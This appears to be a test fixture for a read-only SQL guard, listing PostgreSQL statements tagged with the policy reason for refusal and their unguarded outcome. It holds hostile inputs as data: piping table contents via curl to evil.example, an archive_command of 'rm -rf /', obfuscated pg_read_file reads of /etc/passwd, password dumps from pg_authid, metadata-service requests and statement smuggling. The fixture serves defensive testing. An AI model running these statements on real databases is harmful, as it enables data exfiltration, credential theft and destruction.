-- Statements that must be refused before they reach PostgreSQL.
-- Each begins at a line `--! reason; alone outcome`: the reason that the policy gives, and what a read-only
-- session of an ordinary role on PostgreSQL 15 makes of it when nothing has judged it. For the second layer
-- does not stop all of it:
--   transaction  refused: the transaction is read-only, or may not be left
--   rights       refused: the role may not (a superuser may)
--   protocol     refused: one statement at a time
--   fails        another error: what it speaks of does not exist there, say
--   runs         it runs; the transaction's rollback and the session's reset leave nothing of it but a used
--                transaction number, yet what it shows, holds up or does elsewhere is not undone
--   lasts        it runs, and the server is not what it was
--! statement; alone transaction
INSERT INTO accounts VALUES (1)
--! statement; alone transaction
UPDATE accounts SET balance = 0
--! statement; alone transaction
DELETE FROM accounts
--! statement; alone transaction
TRUNCATE accounts
--! statement; alone transaction
MERGE INTO accounts a USING staging s ON a.id = s.id WHEN MATCHED THEN DELETE
--! statement; alone transaction
DROP TABLE accounts
--! statement; alone transaction
CREATE TABLE loot AS SELECT * FROM accounts
--! statement; alone transaction
SELECT * INTO loot FROM accounts
--! statement; alone transaction
SELECT * INTO TEMP loot FROM accounts
--! statement; alone transaction
SELECT 1 AS a INTO loot UNION ALL SELECT 2
--! statement; alone transaction
CREATE TEMP TABLE loot (a int)
--! statement; alone transaction
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM accounts RETURNING 1'
--! statement; alone transaction
ALTER SYSTEM SET archive_command = 'rm -rf /'
--! statement; alone transaction
ALTER ROLE postgres SUPERUSER
--! statement; alone transaction
GRANT ALL ON accounts TO public
--! statement; alone rights
COPY accounts TO '/tmp/loot'
--! statement; alone rights
COPY (SELECT * FROM accounts) TO PROGRAM 'curl -d @- http://evil.example'
--! statement; alone rights
COPY accounts FROM STDIN
--! statement; alone transaction
DO $$ BEGIN DELETE FROM accounts; END $$
--! statement; alone transaction
CALL pay_everyone()
--! statement; alone runs
NOTIFY channel, 'payload'
--! statement; alone runs
LISTEN channel
--! statement; alone rights
LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE
--! statement; alone runs
PREPARE p AS DELETE FROM accounts
--! statement; alone fails
EXECUTE p
--! statement; alone fails
DEALLOCATE ALL
--! statement; alone runs
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM accounts
--! statement; alone fails
FETCH ALL FROM c
--! statement; alone runs
SET TRANSACTION READ WRITE
--! statement; alone runs
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
--! statement; alone runs
SET statement_timeout = 0
--! statement; alone runs
RESET ALL
--! statement; alone runs
BEGIN READ WRITE
--! statement; alone runs
COMMIT
--! statement; alone runs
ROLLBACK
--! statement; alone transaction
DISCARD ALL
--! statement; alone transaction
VACUUM FULL accounts
--! statement; alone runs
ANALYZE accounts
--! statement; alone rights
CHECKPOINT
--! statement; alone transaction
REINDEX DATABASE app
--! statement; alone transaction
REFRESH MATERIALIZED VIEW totals
--! statement; alone rights
LOAD 'auto_explain'
--! statement; alone transaction
CREATE EXTENSION dblink
--! statement; alone transaction
SECURITY LABEL ON TABLE accounts IS 'x'
--! statement; alone transaction
COMMENT ON TABLE accounts IS 'x'
--! statement; alone transaction
EXPLAIN ANALYZE DELETE FROM accounts
--! statement; alone transaction
EXPLAIN (ANALYZE, COSTS OFF) INSERT INTO accounts VALUES (1)
--! statement; alone rights
EXPLAIN ANALYZE CREATE TABLE loot AS SELECT 1
--! statement; alone fails
EXPLAIN ANALYZE EXECUTE p
--! statement; alone transaction
EXPLAIN ANALYZE WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d
--! statement; alone transaction
WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d
--! statement; alone transaction
WITH a AS (SELECT 1), d AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM a
--! statement; alone fails
SELECT * FROM (WITH i AS (INSERT INTO accounts VALUES (1) RETURNING *) SELECT * FROM i) x
--! multiple_statements; alone protocol
SELECT 1; DROP TABLE accounts
--! multiple_statements; alone protocol
SELECT 1; SELECT 2
--! multiple_statements; alone protocol
SELECT 1;;; COMMIT; SELECT pg_sleep(1)
--! multiple_statements; alone protocol
COMMIT; BEGIN READ WRITE; DELETE FROM accounts
--! locking; alone transaction
SELECT * FROM accounts FOR UPDATE
--! locking; alone transaction
SELECT * FROM accounts FOR NO KEY UPDATE SKIP LOCKED
--! locking; alone transaction
SELECT * FROM accounts FOR SHARE
--! locking; alone transaction
SELECT * FROM (SELECT * FROM accounts FOR KEY SHARE) x
--! locking; alone transaction
SELECT 1 WHERE EXISTS (SELECT 1 FROM accounts FOR UPDATE NOWAIT)
--! locking; alone transaction
WITH l AS MATERIALIZED (SELECT * FROM accounts FOR UPDATE) SELECT count(*) FROM l
--! function; alone fails
SELECT lo_create(424242)
--! function; alone runs
SELECT lo_from_bytea(424243, 'x')
--! function; alone rights
SELECT lo_unlink(424242)
--! function; alone rights
SELECT lo_import('/etc/passwd')
--! function; alone rights
SELECT lo_export(424242, '/tmp/loot')
--! function; alone fails
SELECT lo_put(1, 0, 'x')
--! function; alone rights
SELECT pg_read_file('/etc/passwd')
--! function; alone rights
SELECT pg_read_binary_file('/etc/passwd')
--! function; alone rights
SELECT * FROM pg_ls_dir('/')
--! function; alone rights
SELECT (pg_stat_file('/etc/passwd')).size
--! function; alone rights
SELECT pg_catalog.pg_read_file('/etc/passwd')
--! function; alone rights
SELECT "pg_read_file"('/etc/passwd')
--! function; alone rights
SELECT "pg_catalog"."pg_read_file"('/etc/passwd')
--! function; alone rights
SELECT U&"pg\005fread\005ffile"('/etc/passwd')
--! function; alone rights
SELECT U&"pg!005fread!005ffile" UESCAPE '!' ('/etc/passwd')
--! function; alone rights
SELECT PG_READ_FILE('/etc/passwd')
--! function; alone rights
SELECT pg_read_file /* a comment */ ('/etc/passwd')
--! function; alone rights
SELECT pg_read_file
-- a comment
('/etc/passwd')
--! function; alone rights
SELECT ('/etc/passwd'::text).pg_read_file
--! function; alone rights
SELECT ('/etc'::text)."pg_ls_dir"
--! function; alone rights
SELECT f.pg_ls_dir FROM unnest(ARRAY['/etc']) f
--! function; alone rights
SELECT f.pg_read_file FROM (SELECT '/etc/passwd'::text) AS s(p), LATERAL unnest(ARRAY[p]) f
--! function; alone rights
SELECT (424242::oid).lo_unlink
--! function; alone fails
SELECT ((424242::oid).lo_create)::text
--! function; alone rights
SELECT 1 FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 3)) AS x
--! function; alone rights
SELECT 1 ORDER BY (SELECT pg_read_file('/etc/passwd'))
--! function; alone runs
SELECT 1 LIMIT (SELECT lo_create(424244)::int)
--! function; alone runs
SELECT 1 GROUP BY lo_create(424245)
--! function; alone runs
SELECT count(*) FILTER (WHERE lo_create(424246) > 0) FROM generate_series(1, 1)
--! function; alone runs
SELECT sum(1) OVER (ORDER BY lo_create(424247))
--! function; alone runs
SELECT CASE WHEN true THEN pg_notify('c', 'p') END
--! function; alone runs
SELECT 1 FROM generate_series(1, 2) g JOIN generate_series(1, 2) h ON lo_create(424248 + g) > 0
--! function; alone runs
VALUES (lo_create(424249))
--! function; alone runs
SELECT ARRAY[lo_create(424250)]
--! function; alone runs
SELECT ROW(lo_create(424251))
--! function; alone runs
SELECT (ARRAY[1, 2])[lo_create(424252)::int]
--! function; alone fails
SELECT json_object('a': lo_create(424253))
--! function; alone runs
SELECT xmlelement(name a, lo_create(424254))
--! function; alone runs
EXPLAIN ANALYZE SELECT lo_create(424255)
--! function; alone runs
WITH RECURSIVE r(n) AS (SELECT lo_create(424256)::int UNION ALL SELECT n + 1 FROM r WHERE n < 0) SELECT * FROM r
--! function; alone runs
SELECT set_config('statement_timeout', '0', false)
--! function; alone transaction
SELECT set_config('transaction_read_only', 'off', true)
--! function; alone transaction
SELECT nextval('accounts_id_seq')
--! function; alone rights
SELECT setval('accounts_id_seq', 1)
--! function; alone runs
SELECT pg_notify('channel', 'payload')
--! function; alone runs
SELECT pg_advisory_lock(1)
--! function; alone runs
SELECT pg_try_advisory_xact_lock_shared(1)
--! function; alone rights
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
--! function; alone runs
SELECT pg_cancel_backend(1)
--! function; alone rights
SELECT pg_reload_conf()
--! function; alone rights
SELECT pg_rotate_logfile()
--! function; alone rights
SELECT pg_promote()
--! function; alone rights
SELECT pg_switch_wal()
--! function; alone rights
SELECT pg_create_restore_point('x')
--! function; alone rights
SELECT pg_create_physical_replication_slot('x')
--! function; alone rights
SELECT pg_create_logical_replication_slot('x', 'test_decoding')
--! function; alone rights
SELECT * FROM pg_logical_slot_get_changes('x', NULL, NULL)
--! function; alone lasts
SELECT pg_logical_emit_message(false, 'a', 'b')
--! function; alone rights
SELECT pg_replication_origin_create('x')
--! function; alone runs
SELECT pg_export_snapshot()
--! function; alone rights
SELECT pg_stat_reset()
--! function; alone rights
SELECT pg_log_backend_memory_contexts(pg_backend_pid())
--! function; alone runs
SELECT txid_current()
--! function; alone runs
SELECT pg_current_xact_id()
--! function; alone rights
SELECT pg_hba_file_rules()
--! function; alone runs
SELECT query_to_xml('SELECT lo_create(424257)', true, true, '')
--! function; alone rights
SELECT table_to_xml('pg_authid', true, true, '')
--! function; alone transaction
SELECT database_to_xml(true, true, '')
--! function; alone fails
SELECT cursor_to_xml('c', 1, true, true, '')
--! function; alone runs
SELECT * FROM ts_stat('SELECT lo_create(424258)::text::tsvector')
--! function; alone runs
SELECT ts_rewrite('a & b'::tsquery, 'SELECT lo_create(424264)::text::tsquery, NULL::tsquery')
--! function; alone fails
SELECT * FROM dblink('dbname=app', 'DELETE FROM accounts') AS t(a int)
--! function; alone fails
SELECT dblink_exec('dbname=app', 'DELETE FROM accounts')
--! function; alone fails
SELECT public.dblink_connect('dbname=app')
--! function; alone runs
SELECT * FROM crosstab('SELECT lo_create(1)::text, 1, 2') AS t(a text, b int)
--! function; alone fails
SELECT * FROM crosstab(concat('DELETE FROM ', 'accounts')) AS t(a text, b int)
--! function; alone runs
SELECT * FROM crosstab('SELECT 1, 2, 3; COMMIT') AS t(a int, b int)
--! function; alone fails
SELECT * FROM crosstab('SELECT 1, 2, 3', 'DELETE FROM accounts RETURNING 1') AS t(a int, b int)
--! function; alone runs
SELECT query_to_xml($$SELECT query_to_xml('SELECT lo_create(424261)', true, true, '')$$, true, true, '')
--! function; alone fails
SELECT query_to_xml(query => 'DELETE FROM accounts', nulls => true, tableforest => true, targetns => '')
--! function; alone runs
SELECT query_to_xml(E'SELECT lo_\x63reate(424262)'::text, true, true, '')
--! function; alone fails
SELECT ('SELECT lo_create(424263)::text'::text).ts_stat
--! function; alone fails
SELECT connectby('accounts', 'id', 'parent', '1', 0)
--! function; alone fails
SELECT http_get('http://169.254.169.254/latest/meta-data/')
--! function; alone fails
SELECT content FROM http('GET')
--! function; alone fails
SELECT net.http_post('http://evil.example', '{}')
--! function; alone fails
SELECT cron.schedule('* * * * *', 'DELETE FROM accounts')
--! function; alone fails
SELECT aws_s3.query_export_to_s3('SELECT * FROM accounts', 'bucket', 'key')
--! function; alone fails
SELECT run_command_on_workers('DELETE FROM accounts')
--! function; alone rights
SELECT pg_file_write('x', 'y', false)
--! function; alone runs
SELECT pg_prewarm('accounts')
--! function; alone fails
SELECT binary_upgrade_set_next_pg_type_oid(1::oid)
--! function; alone rights
SELECT gin_clean_pending_list('i'::regclass)
--! function; alone fails
SELECT pg_function_of_the_future()
--! relation; alone rights
SELECT rolname, rolpassword FROM pg_authid
--! relation; alone rights
TABLE pg_catalog.pg_shadow
--! relation; alone runs
SELECT * FROM (SELECT umoptions FROM pg_user_mappings) x
--! relation; alone rights
SELECT * FROM pg_hba_file_rules
--! relation; alone rights
SELECT subconninfo FROM pg_subscription
--! empty_sql; alone runs

--! empty_sql; alone runs
-- nothing but a comment
--! empty_sql; alone runs
;;
--! syntax; alone fails
SELEC 1
--! syntax; alone fails
SELECT 1 FROM
--! syntax; alone fails
/*!50000 DELETE FROM accounts */ accounts
--! function; alone runs
SELECT '\' || ' , lo_create(424259) --'
--! function; alone runs
SELECT E'\'', lo_create(424260) --'
--! statement; alone transaction
COPY (WITH d AS (DELETE FROM accounts RETURNING *) SELECT * FROM d) TO STDOUT
--! statement; alone fails
WITH m AS (MERGE INTO accounts a USING staging s ON a.id = s.id WHEN MATCHED THEN DELETE RETURNING a.id) SELECT * FROM m
--! statement; alone transaction
WITH d AS MATERIALIZED (DELETE FROM accounts RETURNING *) SELECT * FROM d
--! statement; alone transaction
WITH s AS (SELECT 1 AS id) DELETE FROM accounts USING s WHERE accounts.id = s.id
--! statement; alone fails
VALUES (1), ((WITH d AS (DELETE FROM accounts RETURNING id) SELECT count(*) FROM d))
--! statement; alone runs
EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1
--! statement; alone runs
EXPLAIN ANALYZE REFRESH MATERIALIZED VIEW totals
--! statement; alone rights
EXPLAIN (ANALYZE) SELECT * INTO loot FROM accounts
--! syntax; alone fails
EXPLAIN EXPLAIN SELECT 1
--! statement; alone runs
COMMIT AND CHAIN
--! statement; alone lasts
PREPARE TRANSACTION 'loot'
--! statement; alone runs
SET SESSION AUTHORIZATION DEFAULT
--! statement; alone rights
SET ROLE postgres
--! statement; alone transaction
CREATE SUBSCRIPTION s CONNECTION 'host=evil.example' PUBLICATION p
--! statement; alone transaction
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
--! statement; alone transaction
ALTER TABLE accounts DISABLE ROW LEVEL SECURITY
--! statement; alone rights
CLUSTER accounts
--! statement; alone transaction
CREATE VIEW loot AS SELECT 1
--! statement; alone fails
SELECT 1 FROM accounts, (SELECT 1 INTO loot) x
--! syntax; alone fails
SELECT 1 \; DELETE FROM accounts
--! syntax; alone fails
SELECT * FROM (DELETE FROM accounts RETURNING *) x
--! syntax; alone fails
SELECT 1 \gexec
--! multiple_statements; alone protocol
SELECT 1 /* /* nested */ */; DELETE FROM accounts
--! multiple_statements; alone protocol
SELECT $a$ $b$ ; $a$; DELETE FROM accounts -- $b$
--! multiple_statements; alone protocol
SELECT 1;--
DELETE FROM accounts
--! locking; alone transaction
TABLE accounts FOR UPDATE
--! locking; alone transaction
(SELECT * FROM accounts) FOR UPDATE
--! locking; alone transaction
EXPLAIN ANALYZE SELECT * FROM accounts FOR SHARE
--! function; alone rights
SELECT TREAT('/etc/passwd' AS pg_read_file)
--! function; alone runs
SELECT TREAT(424265 AS lo_create)
--! function; alone runs
SELECT U&"set\005fconfig"('work_mem', '1MB', false)
--! function; alone transaction
SELECT set_config($$transaction_read_only$$, $$off$$, false)
--! function; alone runs
SELECT app.pg_catalog.lo_create(424266)
--! function; alone runs
SELECT pg_catalog."lo_create"(VARIADIC 424267)
--! function; alone fails
SELECT lo_create(loid => 424268)
--! function; alone runs
SELECT * FROM lo_create(424269)
--! function; alone runs
SELECT x FROM accounts, LATERAL lo_create(424270 + accounts.id) AS x
--! function; alone fails
SELECT * FROM accounts TABLESAMPLE BERNOULLI (lo_create(424271)::int)
--! function; alone runs
SELECT * FROM accounts TABLESAMPLE SYSTEM (1) REPEATABLE (lo_create(424272)::int)
--! function; alone runs
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY lo_create(424273)::int)
--! function; alone runs
SELECT count(*) OVER (ROWS BETWEEN lo_create(424274)::int PRECEDING AND CURRENT ROW)
--! function; alone fails
SELECT * FROM accounts ORDER BY lo_create(424275) USING >
--! function; alone runs
SELECT 1 OFFSET lo_create(424276)
--! function; alone runs
SELECT DISTINCT ON (lo_create(424277)) 1
--! function; alone runs
SELECT 1 GROUP BY GROUPING SETS ((lo_create(424278)), ())
--! function; alone runs
SELECT lo_create(424279) IS NOT NULL AND true
--! function; alone runs
SELECT 1 WHERE 1 = ANY (ARRAY(SELECT lo_create(424280)::int))
--! function; alone transaction
SELECT row_to_json(x) FROM (SELECT nextval('accounts_id_seq')) x
--! function; alone transaction
SELECT ('accounts_id_seq'::regclass).nextval
--! function; alone fails
SELECT xmlparse(DOCUMENT lo_create(424281)::text)
--! function; alone runs
SELECT * FROM xmltable('/r' PASSING xmlelement(name r, lo_create(424282)) COLUMNS n int PATH '.' DEFAULT lo_create(424283)::int)
--! function; alone fails
SELECT * FROM json_table('[]', '$[*]' PASSING lo_create(424284) AS a COLUMNS (n int PATH '$'))
--! function; alone fails
SELECT json_value('{}', '$.a' DEFAULT lo_create(424285)::int ON EMPTY)
--! function; alone runs
EXPLAIN (ANALYZE, FORMAT JSON) SELECT pg_notify('c', 'p')
--! function; alone rights
SELECT pg_import_system_collations('pg_catalog'::regnamespace)
--! function; alone fails
SELECT brin_summarize_new_values('i'::regclass)
--! function; alone fails
SELECT brin_desummarize_range('i'::regclass, 0)
--! function; alone rights
SELECT pg_stat_reset_shared('bgwriter')
--! function; alone rights
SELECT pg_stat_reset_single_table_counters('accounts'::regclass)
--! function; alone rights
SELECT ('bgwriter'::text).pg_stat_reset_shared
--! function; alone rights
SELECT (true).pg_promote
--! function; alone rights
SELECT ('x'::name).pg_create_physical_replication_slot
--! function; alone rights
SELECT pg_replication_origin_session_setup('x')
--! function; alone rights
SELECT pg_backup_start('x')
--! function; alone rights
SELECT pg_wal_replay_pause()
--! function; alone runs
SELECT pg_database_size('app'), pg_advisory_unlock_all()
--! function; alone transaction
SELECT schema_to_xml('public', true, true, '')
--! function; alone runs
SELECT database_to_xmlschema(true, true, '')
--! function; alone fails
SELECT query_to_xml('DELETE FROM accounts', true, true, '')
--! function; alone fails
SELECT query_to_xml('SELECT * FROM accounts FOR UPDATE', true, true, '')
--! function; alone rights
SELECT query_to_xml('SELECT rolpassword FROM pg_authid', true, true, '')
--! function; alone fails
SELECT query_to_xmlschema('SELECT 1; SELECT 2', true, true, '')
--! function; alone fails
SELECT query_to_xml((SELECT 'DELETE FROM accounts'), true, true, '')
--! function; alone fails
SELECT query_to_xml($1, true, true, '')
--! function; alone lasts
SELECT autoprewarm_dump_now()
--! function; alone runs
SELECT autoprewarm_start_worker()
--! function; alone runs
SELECT set_limit(0.9)
--! function; alone rights
SELECT get_raw_page('pg_authid', 0)
--! function; alone rights
SELECT * FROM heap_page_items(get_raw_page('pg_authid', 0))
--! function; alone rights
SELECT * FROM pg_get_wal_records_info('0/1000000', '0/2000000')
--! function; alone fails
SELECT ('DELETE FROM accounts'::text).run_command_on_workers
--! function; alone fails
SELECT ('http://169.254.169.254/'::text).http_get
--! function; alone fails
SELECT r.http FROM json_populate_record(NULL::http_request, '{"method": "GET"}') r
--! function; alone fails
SELECT ('SELECT lo_create(424286)'::text).pgr_strongcomponents
--! function; alone fails
SELECT ('DELETE FROM accounts'::text).pg_background_launch
--! function; alone fails
SELECT oracle_execute('server', 'DROP TABLE accounts')
--! function; alone fails
SELECT set_user('postgres')
--! function; alone fails
SELECT * FROM duckdb.raw_query('COPY accounts TO ''/tmp/loot''')
--! function; alone fails
SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data/')
--! function; alone fails
SELECT clickhousedb_raw_query('INSERT INTO accounts VALUES (1)', 'host=evil.example')
--! relation; alone runs
SELECT histogram_bounds FROM pg_stats WHERE tablename = 'pg_authid'
--! relation; alone rights
SELECT stavalues1 FROM pg_statistic
--! relation; alone rights
SELECT * FROM app.pg_catalog.pg_authid
--! relation; alone rights
SELECT 1 FROM pg_class JOIN "pg_authid" a ON true
--! relation; alone rights
SELECT pg_authid FROM pg_authid
--! relation; alone fails
SELECT authinfo FROM pg_dist_authinfo
--! relation; alone rights
SELECT chunk_data FROM pg_toast.pg_toast_2619
--! function; alone rights
SELECT ('0/1000000'::pg_lsn).pg_get_wal_records_info_till_end_of_wal
